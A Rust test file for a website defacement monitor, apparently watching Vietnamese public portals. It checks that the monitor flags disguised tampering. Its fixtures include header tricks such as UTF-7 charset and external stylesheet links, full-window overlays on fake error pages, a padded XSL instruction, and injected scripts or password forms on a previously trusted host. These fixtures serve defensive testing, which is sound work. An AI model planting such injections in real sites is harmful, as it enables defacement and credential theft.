//! Ways to hide a defacement: headers that change what browsers show of unchanged bytes, pages that say they cannot
//! be shown, known hosts in a new role.

use std::sync::Arc;

use gaccong::{
    actions::{Access, plans},
    model::{Class, Kind, incident::What},
};

use crate::{
    portal::{Portal, Reply, honest},
    scene::{Scene, Turned, parse, yaml},
};

pub const HTML: (&str, &str) = ("content-type", "text/html; charset=utf-8");

pub fn answer(status: u16, headers: &[(&'static str, &str)], body: impl Into<Vec<u8>>) -> Reply {
    Reply::Full {
        status,
        headers: headers
            .iter()
            .map(|(name, value)| (*name, (*value).to_owned()))
            .collect(),
        body: body.into(),
    }
}

/// A portal that serves equal bytes at each look, learnt with `headers`, and a clock that the test sets.
pub async fn learnt(
    headers: &'static [(&'static str, &'static str)],
) -> (Portal, Scene, Arc<Turned>) {
    let portal = Portal::start(move |_| answer(200, headers, honest(1))).await;
    let clock = Turned::at("2026-03-02T02:00:00Z");
    let config = parse(&yaml("", &[("a", &portal.url())]));
    let scene = Scene::at(config, "memory", clock.clone());
    for _ in 0..5 {
        scene.check(0).await;
        clock.pass(1);
    }
    assert!(scene.heard().is_empty());
    (portal, scene, clock)
}

pub async fn shown(portal: &Portal, scene: &Scene, reply: Reply) -> Vec<String> {
    portal.set(move |_| reply.clone());
    let before = scene.heard().len();
    scene.check(0).await;
    scene.heard().split_off(before)
}

#[tokio::test]
async fn the_same_bytes_under_headers_that_make_another_page_ring() {
    let padded = format!(
        "</{}>; rel=icon, </d.css>; rel=stylesheet",
        "x".repeat(20_000)
    );
    let crowded: String = (0..40)
        .map(|it| format!("</{it}.css>; rel=stylesheet,"))
        .collect();
    for (headers, words) in [
        (
            vec![HTML, ("content-disposition", "attachment; filename=x.html")],
            "tải trang về",
        ),
        (
            vec![("content-type", "text/plain; charset=utf-8")],
            "kiểu nội dung text/plain",
        ),
        (
            vec![("content-type", "application/octet-stream")],
            "application/octet-stream",
        ),
        (
            vec![("content-type", "multipart/x-mixed-replace; boundary=x")],
            "multipart/x-mixed-replace",
        ),
        (
            vec![("content-type", "text/html; charset=iso-2022-kr")],
            "bảng mã iso-2022-kr",
        ),
        (
            vec![("content-type", "text/html; charset=UTF-7")],
            "bảng mã utf-7",
        ),
        (
            vec![HTML, ("link", "</upload/d.css>; rel=stylesheet")],
            "/upload/d[.]css",
        ),
        (
            vec![
                HTML,
                ("link", "<//x9.example/d.css>; rel=\"preload stylesheet\""),
            ],
            "x9[.]example",
        ),
        (
            vec![HTML, ("link", "</d.css>; title=\"<, ;\"; rel=stylesheet")],
            "/d[.]css",
        ),
        (vec![HTML, ("link", &padded)], "/d[.]css"),
        (vec![HTML, ("link", &crowded)], "…"),
        (
            vec![("content-type", "application/xhtml+xml; charset=utf-8")],
            "kiểu nội dung application/xhtml+xml",
        ),
        (
            vec![("content-type", "image/svg+xml")],
            "kiểu nội dung image/svg+xml",
        ),
        (
            vec![HTML, ("content-security-policy", "sandbox")],
            "(script)",
        ),
        (
            vec![HTML, ("content-security-policy", "default-src 'none'")],
            "(img, script, style)",
        ),
    ] {
        let (portal, scene, _) = learnt(&[HTML]).await;
        let heard = shown(&portal, &scene, answer(200, &headers, honest(1))).await;
        assert_eq!(heard.len(), 1, "{headers:?}");
        assert!(
            heard[0].starts_with("🟠") && heard[0].contains(words),
            "{headers:?}\n{}",
            heard[0]
        );
        assert!(
            scene
                .target_state(0)
                .await
                .baseline
                .unwrap()
                .learnt
                .is_empty()
        );
    }
}

#[tokio::test]
async fn headers_that_change_nothing_that_is_shown_are_silent() {
    for headers in [
        vec![("content-type", "Text/HTML;Charset=\"UTF-8\"")],
        vec![
            ("content-type", "text/html"),
            ("x-content-type-options", "nosniff"),
        ],
        vec![
            HTML,
            (
                "content-security-policy",
                "default-src 'self' 'nonce-r4nd0m'; img-src *",
            ),
        ],
        vec![
            HTML,
            (
                "link",
                "</wp-json/>; rel=\"https://api.w.org/\", </a.css>; rel=preload; as=style",
            ),
        ],
        vec![
            HTML,
            ("content-disposition", "inline; filename=\"index.html\""),
        ],
        vec![HTML, ("refresh", "300")],
        vec![
            HTML,
            (
                "content-security-policy",
                "default-src 'none'; img-src 'self'; style-src 'nonce-a1'; script-src 'self'; sandbox allow-scripts",
            ),
        ],
    ] {
        let (portal, scene, clock) = learnt(&[HTML]).await;
        for _ in 0..3 {
            let heard = shown(&portal, &scene, answer(200, &headers, honest(1))).await;
            assert!(heard.is_empty(), "{headers:?}\n{heard:?}");
            clock.pass(1);
        }
        let checked = scene.check(0).await;
        assert_eq!(checked.class, Some(Class::Unchanged), "{headers:?}");
    }
}

#[tokio::test]
async fn a_page_that_headers_turn_into_xml_with_a_transformation_rings() {
    let far = " ".repeat(10_000);
    let page = honest(1).replacen(
        "<html",
        &format!("<!--{far}--><?xml-stylesheet type='text/xsl' href='/upload/d.xsl'?><html"),
        1,
    );
    let learnt_page = page.clone();
    let portal = Portal::start(move |_| answer(200, &[HTML], learnt_page.clone())).await;
    let scene = Scene::new(&yaml("", &[("a", &portal.url())]));
    scene.learn(0).await;
    let headers = [("content-type", "application/xml")];
    let heard = shown(&portal, &scene, answer(200, &headers, page)).await;
    assert!(
        heard.len() == 1 && heard[0].contains("application/xml"),
        "{heard:?}"
    );
    assert!(heard[0].contains("tệp trình bày"), "{}", heard[0]);
}

#[tokio::test]
async fn what_one_of_two_servers_sent_while_it_was_learnt_is_known() {
    let mut n = 0;
    let portal = Portal::start(move |_| {
        n += 1;
        let dressed = [HTML, ("link", "</theme.css>; rel=stylesheet")];
        answer(
            200,
            if n % 2 == 0 { &dressed } else { &dressed[..1] },
            honest(1),
        )
    })
    .await;
    let scene = Scene::new(&yaml("", &[("a", &portal.url())]));
    scene.learn(0).await;
    for _ in 0..8 {
        assert_eq!(scene.check(0).await.class, Some(Class::Unchanged));
    }
    assert!(scene.heard().is_empty());
}

/// An attacker's picture that covers the window.
const OVER: &str = "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url(/upload/h.jpg)'></div>";

#[tokio::test]
async fn a_page_that_says_it_cannot_be_shown_may_not_cover_the_window() {
    let framed = "<iframe src='/upload/d.html' style='position:fixed;inset:0;width:100vw;height:100vh'></iframe>";
    let picture = "<img src='/upload/h.jpg' style='width:100%'>";
    for (status, page) in [
        (403, format!("<html><body>{OVER}</body></html>")),
        (403, "<html><body><img src='/upload/h.jpg'></body></html>".to_owned()),
        (403, honest(1).replace("</body>", &format!("{OVER}</body>"))),
        (429, format!("<html><head><title>429</title></head><body>{picture}</body></html>")),
        (500, format!("<html><body><h1>Lỗi máy chủ</h1>{framed}</body></html>")),
        (404, "<style>.h{position:absolute;inset:0;background-image:url('/h.gif')}</style><div class=h></div>".to_owned()),
        (200, format!("<html><head><title>Just a moment...</title></head><body><h1>Checking your browser</h1>{framed}</body></html>")),
        (200, format!("<html><head><title>Bảo trì</title></head><body><h1>Hệ thống đang bảo trì, vui lòng quay lại sau</h1>{picture}</body></html>")),
        (503, format!("<html><body><p>Website đang bảo trì</p>{OVER}</body></html>")),
        (403, "<html><body><img src='/upload/logo.png'></body></html>".to_owned()),
        (403, "<html><body><img src='/upload/404.svg' width=100 style='zoom:20'></body></html>".to_owned()),
        (403, "<html><body><img src='/upload/404.jpg' width=1920 height=400></body></html>".to_owned()),
        (403, "<html><body><img srcset='/upload/h.jpg 2x'></body></html>".to_owned()),
        (403, "<html><body><video src='/upload/h.mp4'></video></body></html>".to_owned()),
        (403, "<iframe src='/upload/_Incapsula_Resource?a' width='100%' height='100%'></iframe>".to_owned()),
        (403, "<iframe src='/d.html?/_Incapsula_Resource' width='100%' height='100%'></iframe>".to_owned()),
        (403, "<img src='/_Incapsula_Resource?a' width='100%' height='100%'>".to_owned()),
        (403, format!("<p>403</p>{}{OVER}", "<img src=/anh/a.png width=100%>".repeat(70))),
        (403, format!("<p>403</p>{}{OVER}", (0..70).map(|it| format!("<img src=/{it}.png width=100%>")).collect::<String>())),
        (403, format!("<p>403</p>{}", OVER.replace("position", &format!("{}position", "color:red;".repeat(900))))),
    ] {
        let (portal, scene, _) = learnt(&[HTML]).await;
        let heard = shown(&portal, &scene, answer(status, &[HTML], page.clone())).await;
        assert_eq!(heard.len(), 1, "{status} {page}");
        assert!(heard[0].starts_with("🟠 NGHI BỊ CHÈN"), "{status} {page}\n{}", heard[0]);
        assert!(heard[0].contains("phủ hình ảnh hoặc khung lạ"), "{}", heard[0]);
    }
}

#[tokio::test]
async fn honest_error_pages_are_what_they_were() {
    let pages = [
        (
            403,
            "<html><head><title>403 Forbidden</title></head><body><center><h1>403 Forbidden</h1></center><hr><center>nginx</center></body></html>",
        ),
        (
            404,
            "<!DOCTYPE HTML PUBLIC '-//IETF//DTD HTML 2.0//EN'><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.57 (Debian) Server at portal Port 443</address></body></html>",
        ),
        (
            500,
            "<!DOCTYPE html><html><head><title>500 - Internal server error.</title><style>body{margin:0;background:#EEE}#header{width:96%;background-color:#555}</style></head><body><div id=header><h1>Server Error</h1></div><div id=content><h2>500 - Internal server error.</h2><h3>There is a problem with the resource you are looking for, and it cannot be displayed.</h3></div></body></html>",
        ),
        (
            403,
            "<html><head><title>Attention Required! | Cloudflare</title></head><body><div class=cf-wrapper style='min-height:100vh'><h1>Sorry, you have been blocked</h1><p>You are unable to access this site</p><img src=/cdn-cgi/images/icon-exclamation.png alt=error><p>Cloudflare Ray ID: 8a1b2c • <a href='https://www.cloudflare.com/5xx-error-landing'>Performance &amp; security by Cloudflare</a></p></div></body></html>",
        ),
        (
            403,
            "<html><head><title>Request Rejected</title></head><body><img src=/waf/logo.png width=180><p>The requested URL was rejected. Please consult with your administrator. Your support ID is: 123456789</p></body></html>",
        ),
        (
            403,
            "<html style='height:100%'><head><META NAME='ROBOTS' CONTENT='NOINDEX'></head><body style='margin:0px;height:100%'><iframe id='main-iframe' src='/_Incapsula_Resource?SWUDNSAI=31&xinfo=1' frameborder=0 width='100%' height='100%' marginheight='0px'>Request unsuccessful. Incapsula incident ID: 1</iframe></body></html>",
        ),
        (
            503,
            "<html><head><title>Bảo trì hệ thống</title></head><body style='text-align:center'><img src='/images/quoc-huy.png' width=120><h1>Hệ thống đang bảo trì</h1><p>Vui lòng quay lại sau.</p></body></html>",
        ),
        (
            403,
            "<html><head><title>403</title></head><body><img src='/waf/logo.png' width=180 height=60></body></html>",
        ),
        (
            200,
            "<html><head><title>Bảo trì</title></head><body><img src='/bao-tri.png' alt=''><h1>Cổng thông tin đang được bảo trì, nâng cấp</h1></body></html>",
        ),
    ];
    for (status, page) in pages {
        let (portal, scene, _) = learnt(&[HTML]).await;
        let heard = shown(&portal, &scene, answer(status, &[HTML], page)).await;
        let incident = &scene.incidents().await[0];
        assert!(!incident.kind.is_tampering(), "{status} {page}\n{heard:?}");
        if incident.kind == Kind::Blocked {
            let sent = &heard[0];
            assert!(!sent.contains("không phải sự cố của cổng"), "{sent}");
            assert!(
                sent.contains("không xem được trang mà người dân đang thấy"),
                "{sent}"
            );
        }
    }
}

pub async fn announce(scene: &Scene) {
    let now = scene.world.clock.now();
    let announced = plans::Announcement {
        targets: vec![scene.target(0).id],
        from: now,
        to: now + jiff::SignedDuration::from_hours(6),
        reason: "sửa giao diện".to_owned(),
    };
    plans::announce(&Access::cli(&scene.world, "Quản trị"), announced)
        .await
        .unwrap();
    gaccong::deliver::flush(&scene.world).await;
}

#[tokio::test]
async fn a_portal_that_keeps_us_out_for_an_hour_is_told_aloud_whatever_was_announced() {
    for planned in [false, true] {
        let (portal, scene, clock) = learnt(&[HTML]).await;
        if planned {
            announce(&scene).await;
        }
        let refusal = "<html><head><title>403 Forbidden</title></head><body><h1>403 Forbidden</h1></body></html>";
        shown(&portal, &scene, answer(403, &[HTML], refusal)).await;
        let incident = scene.incidents().await.remove(0);
        assert_eq!(
            (incident.kind, incident.planned.is_some()),
            (Kind::Blocked, planned)
        );
        let told = scene.heard().len();
        for _ in 0..5 {
            clock.pass(10);
            scene.check(0).await;
        }
        assert_eq!(scene.heard().len(), told, "not yet");
        for _ in 0..6 {
            clock.pass(10);
            scene.check(0).await;
        }
        let heard = scene.heard();
        assert_eq!(heard.len(), told + 1, "once: {heard:#?}");
        assert!(
            heard[told].contains("không loại trừ trang đã bị thay đổi"),
            "{}",
            heard[told]
        );
        let incident = scene.incidents().await.remove(0);
        assert!(incident.planned.is_none() && incident.muted.is_none());
        let steps = [gaccong::model::duty::Step {
            after: std::time::Duration::from_secs(60),
            to: gaccong::model::duty::EscalationStep::DutyRoom,
        }];
        let later = scene.world.clock.now() + jiff::SignedDuration::from_mins(30);
        let due = gaccong::duty::escalation::due(&steps, &incident, later, false, |_| true);
        assert_eq!(due.map(|it| it.reached), Some(1), "the ladder applies");
        let blind = incident.timeline.iter().filter(|it| it.what == What::Blind);
        assert_eq!(blind.count(), 1);
    }
}

#[tokio::test]
async fn a_host_that_is_known_for_a_picture_or_a_link_may_run_no_code() {
    let host = "https://cdn.x9-tin-tuc.example";
    let before = |page: &str, part: &str| page.replace("</main>", &format!("{part}</main>"));
    for first in [
        format!("<img src='{host}/a.png' alt='Ảnh'>"),
        format!("<a href='{host}/tin'>Tin liên kết</a>"),
    ] {
        for second in [
            format!("<script src='{host}/a.js'></script>"),
            format!("<iframe src='{host}/a.html' width=100% height=100%></iframe>"),
            format!(
                "<script>var s=document.createElement('script');s.src='{host}/b.js';document.body.appendChild(s)</script>"
            ),
            format!("<form action='{host}/p' method=post><input type=password name=p></form>"),
        ] {
            let (portal, scene, clock) = learnt(&[HTML]).await;
            let step = before(&honest(1), &first);
            for _ in 0..6 {
                let heard = shown(&portal, &scene, answer(200, &[HTML], step.clone())).await;
                assert!(heard.is_empty(), "{first}: {heard:?}");
                clock.pass(10);
            }
            assert!(
                !scene
                    .target_state(0)
                    .await
                    .baseline
                    .unwrap()
                    .learnt
                    .is_empty()
            );
            let heard = shown(
                &portal,
                &scene,
                answer(200, &[HTML], before(&step, &second)),
            )
            .await;
            assert_eq!(heard.len(), 1, "{first}\n{second}");
        }
    }
}
